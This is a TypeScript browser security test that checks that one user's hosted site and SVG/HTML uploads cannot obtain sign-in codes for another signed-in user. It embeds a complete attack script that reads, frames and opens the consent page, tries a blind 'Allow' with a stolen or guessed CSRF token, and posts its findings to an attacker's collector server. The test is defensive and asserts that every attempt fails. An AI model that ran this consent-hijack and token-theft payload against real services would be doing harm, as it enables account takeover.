// SPEC.md "User content never shares an origin with the platform", in real Chromium against the reference server:
// account B's site and B's active uploads (.svg, .htm), viewed by signed-in A at every URL the platform serves
// them from, try everything a script can to get a sign-in code or token for A (read the consent page, frame it,
// open it, press Allow blind, read the dashboard). None of it works, and no code for A is ever issued. Also: every
// `next` trick in the real login form lands on the platform's own origin.

import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  openReferenceStores,
  type ReferenceServer,
  startReferenceServer,
} from '../../server-endpoints/reference/server.js';
import { CHROMIUM_ARGS, waitForFound } from '../helpers/browser.js';
import { NEXT_TRICKS } from '../helpers/next-tricks.js';

const A = { email: 'alice@example.com', password: 'alice password 1' };
const B = { email: 'mallory@example.com', password: 'mallory password' };

/** What the attacker's server (B's, on loopback) heard: reports from the script, and any sign-in callback. */
interface Collector {
  server: Server;
  origin: string;
  reports: Array<{ where: string; found: string[]; tried: Record<string, string> }>;
  callbacks: URL[];
}

async function startCollector(): Promise<Collector> {
  const collector: Collector = { server: createServer(), origin: '', reports: [], callbacks: [] };
  collector.server.on('request', (req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      if (url.pathname === '/report') collector.reports.push(JSON.parse(Buffer.concat(chunks).toString('utf8')));
      if (url.pathname === '/callback') collector.callbacks.push(url);
      res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' });
      res.end('ok');
    });
  });
  await new Promise<void>((done) => collector.server.listen(0, '127.0.0.1', done));
  collector.origin = `http://127.0.0.1:${(collector.server.address() as AddressInfo).port}`;
  return collector;
}

/**
 * The attack, as B's script runs it in A's browser: for each origin A may be signed in at, read the consent page
 * (its CSRF token), frame it, open it in a window, press Allow without the token, read the dashboard. Anything
 * secret it finds goes into `found`; it reports to B's server at the end. It marks the document first, so a test
 * can see whether it ran at all.
 */
function attackScript(platformOrigins: string[], collector: string, where: string): string {
  const body = async (origins: string[], report: string, place: string) => {
    document.documentElement.setAttribute('data-attack-ran', 'yes');
    const tried: Record<string, string> = {};
    const found: string[] = [];
    const secret = (text: string): string | null =>
      /name="csrf" value="([^"]+)"/.exec(text)?.[1] ?? /id="code">([^<]+)</.exec(text)?.[1] ?? null;
    const note = (key: string, text: string | null, fallback: string) => {
      if (text) found.push(`${key}: ${text}`);
      tried[key] = text ? 'FOUND' : fallback;
    };
    const query = new URLSearchParams({
      redirect_uri: `${report}/callback`,
      state: 'attack',
      code_challenge: 'A'.repeat(43),
      code_challenge_method: 'S256',
      device_name: 'Totally your laptop',
    });
    for (const origin of origins) {
      const consent = `${origin}/sync/authorize?${query}`;
      let csrf = 'guessed';
      try {
        const reply = await fetch(consent, { credentials: 'include' });
        const got = secret(await reply.text());
        note(`${origin} read`, got, `status ${reply.status}`);
        csrf = got ?? csrf;
      } catch {
        tried[`${origin} read`] = 'blocked';
      }
      tried[`${origin} frame`] = await new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = consent;
        frame.onload = () => {
          try {
            const html = frame.contentDocument?.documentElement.outerHTML ?? '';
            const got = secret(html);
            if (got) found.push(`${origin} frame: ${got}`);
            resolve(got ? 'FOUND' : 'empty');
          } catch {
            resolve('blocked');
          }
        };
        document.body.appendChild(frame);
      });
      const opened = window.open(consent);
      let windowResult = opened ? 'nothing' : 'no window';
      for (let i = 0; opened && i < 100 && windowResult === 'nothing'; i++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        try {
          if (opened.closed) windowResult = 'severed';
          else if (opened.location.href.startsWith(origin)) {
            const got = secret(opened.document.documentElement.outerHTML);
            if (got) found.push(`${origin} window: ${got}`);
            windowResult = got ? 'FOUND' : 'empty';
          }
        } catch {
          windowResult = 'blocked';
        }
      }
      opened?.close();
      tried[`${origin} window`] = windowResult;
      try {
        const form = new URLSearchParams(query);
        form.set('decision', 'allow');
        // With the token read above if that worked, else a guess (a blind cross-site Allow).
        form.set('csrf', csrf);
        const reply = await fetch(`${origin}/sync/authorize`, { method: 'POST', credentials: 'include', body: form });
        note(`${origin} allow`, secret(await reply.text()), `status ${reply.status}`);
      } catch {
        tried[`${origin} allow`] = 'blocked';
      }
      try {
        const reply = await fetch(`${origin}/`, { credentials: 'include' });
        note(`${origin} dashboard`, secret(await reply.text()), `status ${reply.status}`);
      } catch {
        tried[`${origin} dashboard`] = 'blocked';
      }
    }
    await fetch(`${report}/report`, {
      method: 'POST',
      mode: 'no-cors',
      body: JSON.stringify({ where: place, found, tried }),
    });
  };
  return `(${body.toString()})(${JSON.stringify(platformOrigins)}, ${JSON.stringify(collector)}, ${JSON.stringify(where)});`;
}

describe('user content cannot act for the viewer (real Chromium)', () => {
  let dir: string;
  let platform: ReferenceServer;
  let collector: Collector;
  let browser: Browser;
  let aliceId: string;
  const lines: string[] = [];
  /** The origins A is signed in at: the browser-friendly one and the bound address. */
  let platformOrigins: string[];

  const sha = (text: string) => createHash('sha256').update(text).digest('hex');

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'hc-origins-'));
    collector = await startCollector();
    // The port is needed in the content; reserve it by starting once, then seed and restart on the same port.
    platform = await startReferenceServer({ port: 0, dataDir: dir, log: () => {} });
    const port = platform.port;
    await platform.close();
    platformOrigins = [`http://localhost:${port}`, `http://127.0.0.1:${port}`];
    const stores = await openReferenceStores(dir);
    try {
      aliceId = (await stores.accounts.create({ ...A, plan: 'paid' })).id;
      const mallory = await stores.accounts.create({ ...B, plan: 'paid' });
      const write = (kind: 'site' | 'upload', key: string, path: string, text: string) =>
        stores.storage.writeFile({
          accountId: mallory.id,
          kind,
          key,
          path,
          content: Buffer.from(text),
          sha256: sha(text),
          baseVersion: 0,
          modifiedAtMs: Date.now(),
          limits: { maxSites: null, maxStorageBytes: null },
        });
      const script = (where: string) => attackScript(platformOrigins, collector.origin, where);
      await write(
        'site',
        'mallory',
        'mallory.html',
        `<!doctype html><title>Cats</title><body><p>Cute cats</p><script>${script('site')}</script></body>`,
      );
      await write(
        'upload',
        'evil.svg',
        'evil.svg',
        `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${script('svg')}</script><rect width="10" height="10"/></svg>`,
      );
      await write('upload', 'evil.htm', 'evil.htm', `<!doctype html><body><script>${script('htm')}</script></body>`);
    } finally {
      await stores.close();
    }
    platform = await startReferenceServer({ port, dataDir: dir, log: (line) => lines.push(line) });
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      headless: true,
      // The worst case: the attacker's windows are never stopped by the popup blocker.
      args: [...CHROMIUM_ARGS, '--disable-popup-blocking'],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise<void>((done) => (collector ? collector.server.close(() => done()) : done()));
    await platform?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  /** A browser in which A is signed in at every platform origin, with the consent page one click away. */
  async function aliceBrowser(): Promise<BrowserContext> {
    const context = await browser.newContext();
    const page = await context.newPage();
    for (const origin of platformOrigins) {
      await page.goto(`${origin}/login`);
      await page.fill('input[name="email"]', A.email);
      await page.fill('input[name="password"]', A.password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.locator('#account-email').waitFor();
    }
    await page.close();
    return context;
  }

  /** Nothing for A: no code issued, no device connected, nothing at B's callback. */
  async function nothingIssuedForAlice(): Promise<void> {
    expect(lines.filter((line) => line.startsWith(`auth consent-allowed account=${aliceId}`))).toEqual([]);
    expect(lines.filter((line) => line.startsWith(`auth signed-in account=${aliceId}`))).toEqual([]);
    expect(collector.callbacks.filter((url) => url.searchParams.has('code'))).toEqual([]);
  }

  it('B’s site, opened by signed-in A on its own origin and through every platform address, gets nothing', async () => {
    const context = await aliceBrowser();
    const port = platform.port;
    const addresses = [`http://mallory.localhost:${port}/`, ...platformOrigins.map((origin) => `${origin}/mallory`)];
    for (const address of addresses) {
      const before = collector.reports.length;
      const page = await context.newPage();
      await page.goto(address);
      const report = await waitForFound(() => collector.reports[before], `the attack report from ${address}`);
      expect(report.where).toBe('site');
      expect(report.found).toEqual([]);
      // Every platform address only redirects: the site runs on its own origin, never on the platform's.
      expect(new URL(page.url()).origin).toBe(`http://mallory.localhost:${port}`);
      // It did try every way, on both origins.
      expect(Object.keys(report.tried)).toHaveLength(5 * platformOrigins.length);
      for (const origin of platformOrigins) {
        expect(report.tried[`${origin} read`]).toBe('blocked');
        // The frame is refused (frame-ancestors): Chromium leaves an error page the script cannot read or finds empty.
        expect(['blocked', 'empty']).toContain(report.tried[`${origin} frame`]);
        expect(['severed', 'blocked']).toContain(report.tried[`${origin} window`]);
        expect(report.tried[`${origin} dashboard`]).toBe('blocked');
      }
      await page.close();
    }
    await nothingIssuedForAlice();
    await context.close();
  }, 120_000);

  it('B’s .svg and .htm uploads, opened by signed-in A at every address, run no script at all', async () => {
    const context = await aliceBrowser();
    const port = platform.port;
    const addresses = [
      `http://mallory.localhost:${port}/evil.svg`,
      `http://mallory.localhost:${port}/evil.htm`,
      ...platformOrigins.flatMap((origin) => [`${origin}/mallory/evil.svg`, `${origin}/mallory/evil.htm`]),
    ];
    for (const address of addresses) {
      const page = await context.newPage();
      const response = await page.goto(address);
      expect(new URL(page.url()).origin).toBe(`http://mallory.localhost:${port}`);
      expect(response?.headers()['content-security-policy']).toBe('sandbox');
      expect(response?.headers()['x-content-type-options']).toBe('nosniff');
      // Inline scripts run while the document is parsed, before the load that goto waited for.
      expect(await page.evaluate(() => document.documentElement.getAttribute('data-attack-ran'))).toBeNull();
      await page.close();
    }
    // The same SVG served without the sandbox (here from B's own server) does run: the test would see it.
    const control = await context.newPage();
    await control.route(`${collector.origin}/control.svg`, (route) =>
      route.fulfill({
        contentType: 'image/svg+xml',
        body: `<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.setAttribute('data-attack-ran','yes')</script></svg>`,
      }),
    );
    await control.goto(`${collector.origin}/control.svg`);
    expect(await control.evaluate(() => document.documentElement.getAttribute('data-attack-ran'))).toBe('yes');
    expect(collector.reports.filter((report) => report.where !== 'site')).toEqual([]);
    await nothingIssuedForAlice();
    await context.close();
  }, 120_000);

  it('even a script on the platform’s own origin cannot read the consent page or press Allow by fetch', async () => {
    const context = await aliceBrowser();
    const page = await context.newPage();
    const origin = platformOrigins[0] ?? '';
    const query = new URLSearchParams({
      redirect_uri: `${collector.origin}/callback`,
      state: 'in-depth',
      code_challenge: 'B'.repeat(43),
      code_challenge_method: 'S256',
      device_name: 'Same-origin script',
    });
    // The person's own navigation shows the page (and its CSRF token, which the test hands the script).
    await page.goto(`${origin}/sync/authorize?${query}`);
    const csrf = await page.locator('input[name="csrf"]').getAttribute('value');
    expect(csrf).toBeTruthy();
    // A document of the platform's origin without the pages' CSP (which forbids fetch): as user content a host
    // served here by mistake would be.
    await page.goto(`${origin}/sync/health`);
    const result = await page.evaluate(
      async ({ query, csrf }) => {
        const read = await fetch(`/sync/authorize?${query}`);
        const form = new URLSearchParams(query);
        form.set('decision', 'allow');
        form.set('csrf', csrf ?? '');
        const allow = await fetch('/sync/authorize', { method: 'POST', body: form });
        return {
          read: read.status,
          readHasForm: (await read.text()).includes('name="csrf"'),
          allow: allow.status,
          code: (await allow.text()).includes('id="code"'),
        };
      },
      { query: query.toString(), csrf },
    );
    expect(result).toEqual({ read: 403, readHasForm: false, allow: 403, code: false });
    await nothingIssuedForAlice();
    await context.close();
  });

  it('lands every `next` trick of the login form on the platform’s own origin', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const origin = platformOrigins[0] ?? '';
    // The form submitted by hand, with the trick in its hidden field (a crafted page could post any next).
    for (const trick of NEXT_TRICKS) {
      await context.clearCookies();
      await page.goto(`${origin}/login`);
      await page.evaluate((next) => {
        (document.querySelector('input[name="next"]') as HTMLInputElement).value = next;
      }, trick);
      await page.fill('input[name="email"]', A.email);
      await page.fill('input[name="password"]', A.password);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.waitForLoadState();
      expect(new URL(page.url()).origin, JSON.stringify(trick)).toBe(origin);
    }
    // Signed in now: GET /login?next=<trick> redirects at once, to this origin only.
    for (const trick of NEXT_TRICKS) {
      await page.goto(`${origin}/login?next=${encodeURIComponent(trick)}`);
      expect(new URL(page.url()).origin, JSON.stringify(trick)).toBe(origin);
    }
    await context.close();
  }, 240_000);
});
